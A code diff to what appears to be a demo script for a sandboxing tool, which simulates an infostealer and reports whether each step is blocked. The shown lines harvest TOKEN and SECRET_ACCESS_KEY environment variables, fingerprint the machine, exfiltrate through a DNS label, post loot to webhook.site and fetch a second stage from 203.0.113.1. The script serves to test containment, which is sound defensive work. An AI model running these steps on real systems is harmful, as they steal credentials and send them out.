@@ -9,6 +9,7 @@ addresses of the demo's private world (examples/demo.py).
 """
 
 import base64
+import hashlib
 import os
 import socket
 import sys
@@ -56,8 +57,10 @@ def main():
     loot = {k: v for k, v in os.environ.items() if k.endswith(("TOKEN", "SECRET_ACCESS_KEY"))}
     print("  %-7s  %-48s %s" % ("DONE" if loot else "blocked", "harvest tokens from the environment",
                               ", ".join(loot) or "none found"), flush=True)
-    label = base64.b32encode(("%s@%s" % (os.environ.get("USER", "?"), socket.gethostname())).encode())
-    label = label.decode().rstrip("=").lower()[:60]
+    # A machine fingerprint, as real stealers send: always 32 base32 characters,
+    # whatever the user and host names are.
+    who = "%s@%s" % (os.environ.get("USER", "?"), socket.gethostname())
+    label = base64.b32encode(hashlib.sha256(who.encode()).digest()[:20]).decode().lower()
     step("exfiltrate through a DNS label", lambda: socket.gethostbyname(label + ".exfil.corral.test"))
     step("post the loot to webhook.site", lambda: fetch("http://webhook.site/collect", data=b"loot"))
     step("download a second stage from 203.0.113.1", lambda: fetch("http://203.0.113.1/files/stage2.sh"))
